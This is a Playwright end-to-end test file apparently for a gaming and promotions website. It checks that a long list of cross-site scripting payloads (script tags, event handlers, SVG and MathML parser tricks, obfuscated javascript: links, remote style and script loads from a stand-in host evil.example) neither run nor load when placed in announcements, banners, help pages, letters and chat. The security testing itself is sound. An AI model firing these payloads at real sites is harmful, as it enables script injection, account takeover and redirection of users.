import type { Page } from '@playwright/test'
import { beMember, expect, open, signInAs, test } from './site-fixtures.ts'

// The policy of the documents would stop most of these even if the site let them through. What is shown here is the site.
test.use({ bypassCSP: true })

const RUN = 'self.ran=1'
const EVIL = 'https://evil.example'
/** As a character reference each, so that `javascript` stands nowhere. */
const referenced = [...`javascript:${RUN}`].map((sign) => `&#x${sign.charCodeAt(0).toString(16)};`).join('')

/** Each is one text of the platform, of a kind of its own; those that swallow what follows are closed by {@link CLOSE}. */
const PAYLOADS: readonly string[] = [
  // Elements that run or load.
  `<script>${RUN}</script>`,
  `<script src="${EVIL}/a.js"></script>`,
  `<script type="module">import "${EVIL}/b.js"</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<SCRIPT/x>${RUN}</SCRIPT >`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="${EVIL}/frame"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="${EVIL}/o"></object>`,
  `<embed src="${EVIL}/e">`,
  `<applet code="${EVIL}/c"></applet>`,
  `<link rel="stylesheet" href="${EVIL}/l.css">`,
  `<base href="${EVIL}/">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/m">`,
  // Handlers.
  `<img src=x onerror="${RUN}">`,
  `<img src=x:y onerror=alert(1)>`,
  `<img src="${EVIL}/i.png" onload="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=\`x\` onerror=\`${RUN}\`>`,
  `"><img src=x onerror="${RUN}">`,
  `'><img src=x onerror='${RUN}'>`,
  `<b onmouseover="${RUN}" onclick="${RUN}" onpointerenter="${RUN}">words</b>`,
  `<details open ontoggle="${RUN}"><summary>words</summary></details>`,
  `<div tabindex=1 autofocus onfocus="${RUN}">words</div>`,
  `<input autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}"></select>`,
  `<video autoplay onloadstart="${RUN}"><source src="${EVIL}/v" onerror="${RUN}"></video>`,
  `<audio src="${EVIL}/a.mp3" autoplay onerror="${RUN}"></audio>`,
  `<marquee onstart="${RUN}">words</marquee>`,
  `<body onload="${RUN}" onpageshow="${RUN}">`,
  `<x onanimationstart="${RUN}" style="animation:fy-x 1s">words</x>`,
  // SVG and MathML.
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="9">words</text></a></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#a"></use></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><image href="${EVIL}/s.png"></image></svg>`,
  `<math href="javascript:${RUN}">words</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">words</maction></math>`,
  // What is read differently the second time.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<div><template shadowrootmode="open"><script>${RUN}</script></template></div>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><a title="</title><img src=x onerror=${RUN}>"></title>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet ><img src=x onerror="${RUN}"> ?>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  // Addresses.
  `<a href="javascript:${RUN}">words</a>`,
  `<a href="JaVaScRiPt:${RUN}">words</a>`,
  `<a href=" java\tscr\nipt:${RUN}">words</a>`,
  `<a href="\u0001javascript:${RUN}">words</a>`,
  `<a href="${referenced}">words</a>`,
  `<a href="javascript&colon;${RUN}">words</a>`,
  `<a href="vbscript:${RUN}">words</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">words</a>`,
  `<a href="//evil.example/a">words</a>`,
  `<a href="/\\evil.example/b">words</a>`,
  `<a href="/m/..//evil.example/c" target="_top" ping="${EVIL}/ping">words</a>`,
  `<form action="${EVIL}/f"><button formaction="javascript:${RUN}">words</button></form>`,
  `<a id="foyer" name="root" href="blob:${EVIL}/1">words</a>`,
  // Styles.
  `<style>@import "${EVIL}/s.css"; *{background:url(${EVIL}/t.png)}</style>`,
  `<p style="background:url(${EVIL}/u.png);position:fixed;inset:0">words</p>`,
  `<table background="${EVIL}/v.png"><tr><td background="javascript:${RUN}">words</td></tr></table>`,
  // Encodings: they stay the words that they are.
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `＜script＞${RUN}＜/script＞`,
  `<s\u0000cript>${RUN}</s\u0000cript>`,
  `<img src=x one\u017frror=${RUN} o\u212Aerror=${RUN}>`,
  `\u202E<svg/onload=${RUN}>\u2066`,
  `{{constructor.constructor('${RUN}')()}}\${${RUN}}<%= ${RUN} %>`,
]

const CLOSE = '</textarea></style></title></noscript></template></script></xmp></math></svg>--><hr>'
const ALL = PAYLOADS.join(CLOSE)
const inEnglish = (text: string) => ({ EN: text })
/** As a browser shows it in one line. */
const words = (text: string) => text.replaceAll('\u0000', '').replace(/\s+/g, ' ').trim()

/** Touches all that the platform's HTML has become, and says what could still run or lead away. */
function touchAll(page: Page): Promise<readonly string[]> {
  return page.evaluate(async () => {
    const all = [...document.querySelectorAll('.fy-rich-text *')]
    for (const element of all) {
      for (const name of ['mouseover', 'pointerenter', 'focus', 'toggle', 'error', 'load', 'animationstart'])
        element.dispatchEvent(new Event(name, { bubbles: true, cancelable: true }))
      if (element.closest('a[href]') === null) element.dispatchEvent(new MouseEvent('click', { bubbles: true }))
    }
    await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))
    const leads = (value: string) => {
      const { protocol, origin } = new URL(value, location.href)
      return !['http:', 'https:'].includes(protocol) || origin !== location.origin
    }
    const forbidden = /^(script|style|template|iframe|object|embed|svg|math|form|input|button|base|meta|link)$/i
    const found = all.flatMap((element) => [
      ...(forbidden.test(element.localName) ? [element.localName] : []),
      ...element.getAttributeNames().filter((name) => /^on|^(style|id|name|srcdoc|background|ping)$/.test(name)),
      ...[element.getAttribute('href')].filter((value) => value !== null && leads(value)),
      // A picture may come from any https host (settlement 34).
      ...[element.getAttribute('src')].filter(
        (value) => value !== null && leads(value) && !(element.localName === 'img' && value.startsWith('https:')),
      ),
    ])
    return ['ran' in self ? 'it ran' : [], found].flat().filter((one) => one !== null)
  })
}

/** The one picture among the payloads that may be shown: of an https host, in an `img`. */
const PICTURE = `${EVIL}/i.png`

/** Touches what is shown, and fails where something ran, was loaded from elsewhere but a picture, or opened. */
async function watch(page: Page, baseURL: string | undefined): Promise<() => Promise<void>> {
  const context = page.context()
  const strange: string[] = []
  // The chat stands on another host (settlement 34), to which the site is left.
  const chat = `${baseURL?.replace('127.0.0.1', 'localhost')}/play/`
  await context.route(PICTURE, (route) => route.fulfill({ contentType: 'image/png', body: '' }))
  context.on('request', (request) => {
    const url = new URL(request.url())
    if (request.url() === PICTURE && request.resourceType() === 'image') return
    if (request.url().startsWith(chat)) return
    if (url.protocol !== 'data:' && url.protocol !== 'blob:' && url.origin !== baseURL) strange.push(request.url())
  })
  context.on('dialog', (dialog) => {
    strange.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  return async () => {
    expect(await touchAll(page)).toEqual([])
    expect(strange).toEqual([])
    expect(context.pages()).toHaveLength(1)
  }
}

const base = { startDay: -1, noExpiry: true, categoryIds: [], images: [] }

test.describe('popups', () => {
  test.use({ popups: true })

  test('[PROMO-10] nothing runs in a popup, in a banner or in an announcement for agents', async ({
    page,
    control,
    baseURL,
    expectTrouble,
  }) => {
    expectTrouble(/404/)
    const quiet = await watch(page, baseURL)
    const text = { title: inEnglish(PAYLOADS[15] ?? ''), content: inEnglish(ALL) }
    await control.setAnnouncements({
      announcements: [
        { ...base, ...text, id: 1, group: 'popup', groupName: 'm_home', url: `javascript:${RUN}` },
        { ...base, ...text, id: 2, group: 'hot', groupName: 'm_home' },
        ...PAYLOADS.map((payload, at) => ({
          ...{ ...base, id: 1000 + at, group: 'agent' as const },
          ...{ title: inEnglish(payload), content: inEnglish(payload) },
        })),
      ],
      banners: PAYLOADS.slice(0, 4).map((payload, at) => ({
        bannerId: at + 1,
        groupName: 'm_home' as const,
        url: at % 2 === 0 ? `javascript:${RUN}` : `${EVIL}/banner`,
        title: inEnglish(payload),
        images: [`javascript:${RUN}`],
      })),
    })
    await signInAs(page, 'agent2')
    const popup = page.getByRole('dialog').filter({ has: page.locator('.fy-rich-text[aria-busy=false]') })
    await expect(popup).toContainText('words')
    await expect(popup.getByRole('heading').first()).toHaveText(words(PAYLOADS[15] ?? ''))
    await expect(page.locator('a[href^="javascript" i]')).toHaveCount(0)
    // A banner may lead to any https address, in a window that knows nothing of this one (settlement 34).
    for (const link of await page.locator('a[href*="evil" i]').all()) {
      await expect(link).toHaveAttribute('href', `${EVIL}/banner`)
      await expect(link).toHaveAttribute('target', '_blank')
      await expect(link).toHaveAttribute('rel', /noopener/)
    }
    await quiet()

    await open(page, '/m/member/notice?types=A')
    const notices = page.getByRole('main').locator('details')
    await expect(notices.first()).toBeVisible()
    await notices.evaluateAll((all) => {
      for (const one of all) if (one instanceof HTMLDetailsElement) one.open = true
    })
    await expect(page.locator('.fy-rich-text[aria-busy=false]').first()).toBeAttached()
    await expect(page.locator('.fy-rich-text[aria-busy=true]')).toHaveCount(0)
    await quiet()
  })
})

test('[PROMO-10] of what the platform sends nothing runs, loads or leads away, whatever field it stands in', async ({
  page,
  control,
  baseURL,
  expectTrouble,
}) => {
  // The picture that is named `x` would be our own, and is not there.
  expectTrouble(/404/)
  const quiet = await watch(page, baseURL)

  const terms = (text: string) => ({ amount: text, stake: inEnglish(text), games: inEnglish(text), cap: text })
  await control.setAnnouncements({
    announcements: PAYLOADS.flatMap((text, at) => [
      { ...base, id: 1000 + at, group: 'player', title: inEnglish(text), content: inEnglish(text) },
      {
        ...{ ...base, id: 2000 + at, group: 'promotion', title: inEnglish(text), content: inEnglish(ALL) },
        ...{ images: [`javascript:${RUN}`, `${EVIL}/p.png`], terms: terms(text) },
      },
    ]),
  })
  await control.setHelp({
    topics: PAYLOADS.map((text) => ({ key: text, title: inEnglish(text), content: inEnglish(text) })),
  })
  for (const text of PAYLOADS) {
    await control.sendLetter({ userName: 'demo', title: inEnglish(text), content: inEnglish(text) })
    await control.answerChat({ userName: 'demo', text })
  }
  await control.sendLetter({ userName: 'demo', title: inEnglish('All'), content: inEnglish(ALL) })
  await control.setLinks({
    services: [
      { csPosition: 'LIVECHAT-1', title: 'LIVECHAT', path: '/m/message' },
      { csPosition: 'TELEGRAM-1', title: PAYLOADS[0] ?? '', path: `javascript:${RUN}` },
      { csPosition: 'FACEBOOK-1', title: PAYLOADS[15] ?? '', path: `data:text/html,<script>${RUN}</script>` },
    ],
    resources: [{ resourceType: 'TELEGRAM', url: ` java\tscript:${RUN}` }],
  })
  await page.route('**/wps/activities/labels', (route) =>
    route.fulfill({
      json: { success: true, value: { list: PAYLOADS.map((label, at) => ({ id: 2000 + at, label })) } },
    }),
  )
  await page.route('**/wps/activities/*/label', (route) =>
    route.fulfill({ json: { success: true, value: { label: PAYLOADS[20] } } }),
  )
  await beMember(page)

  await open(page, '/m/home')
  await expect(page.locator('.fy-ticker a').first()).toHaveText(words(PAYLOADS[0] ?? ''))
  await quiet()

  await open(page, '/m/notice')
  const main = page.getByRole('main')
  await main.locator('details').first().waitFor()
  const openAll = async () => {
    const count = PAYLOADS.length
    await expect(async () => {
      await page.evaluate(() => window.scrollTo({ top: document.documentElement.scrollHeight, behavior: 'instant' }))
      expect(await main.locator('details').count()).toBe(count)
    }).toPass({ intervals: [50] })
    await main.locator('details').evaluateAll((all) => {
      for (const one of all) if (one instanceof HTMLDetailsElement) one.open = true
    })
    await expect(main.locator('.fy-rich-text[aria-busy=false]')).toHaveCount(count)
    return (await main.locator('.site-details__title').allTextContents()).map(words)
  }
  expect((await openAll()).map((title) => title.replace(/^New/, '')).sort()).toEqual(PAYLOADS.map(words).sort())
  await quiet()

  await open(page, '/m/help')
  await main.locator('details').first().waitFor()
  expect(await openAll()).toEqual(PAYLOADS.map(words))
  await quiet()

  await open(page, '/m/activity')
  await expect(page.locator('.site-promotion__title')).toHaveCount(PAYLOADS.length)
  // A word that is no label is none.
  await expect(page.locator('.fy-promo-label:not(.site-promotion__line *)')).toHaveCount(0)
  await page.locator('.site-promotion').nth(20).tap()
  const facts = page.locator('.site-terms dd')
  await expect(facts.first()).toHaveText(words(PAYLOADS[20] ?? ''))
  // An amount that is none is left out.
  await expect(facts).toHaveCount(2)
  await expect(main.locator('.fy-rich-text[aria-busy=false]')).toContainText('words')
  await expect(main.locator('.fy-button-primary')).toHaveCount(0)
  await quiet()

  await open(page, '/m/webEmail')
  const letters = main.locator('.site-letter')
  await expect(letters).toHaveCount(25)
  await expect(letters.nth(1)).toContainText(words(PAYLOADS.at(-1) ?? ''))
  await letters.first().getByRole('link').tap()
  await expect(main.locator('.fy-rich-text[aria-busy=false]')).toContainText('words')
  await quiet()

  await open(page, '/m/message')
  const chat = main.getByRole('button', { name: 'Live chat' })
  await expect(chat).toBeVisible()
  await expect(main.locator('a:is([href^="javascript" i], [href^="data"])')).toHaveCount(0)
  await quiet()
  await chat.tap()
  await page.waitForURL((url) => !url.pathname.startsWith('/m/'))
  const talk = (await page.locator('.talk p').allTextContents()).map(words)
  expect(talk).toEqual(expect.arrayContaining(PAYLOADS.slice(-20).map(words)))
  await expect(page.locator('.talk :is(script, img, svg, a, iframe)')).toHaveCount(0)
  await quiet()
})
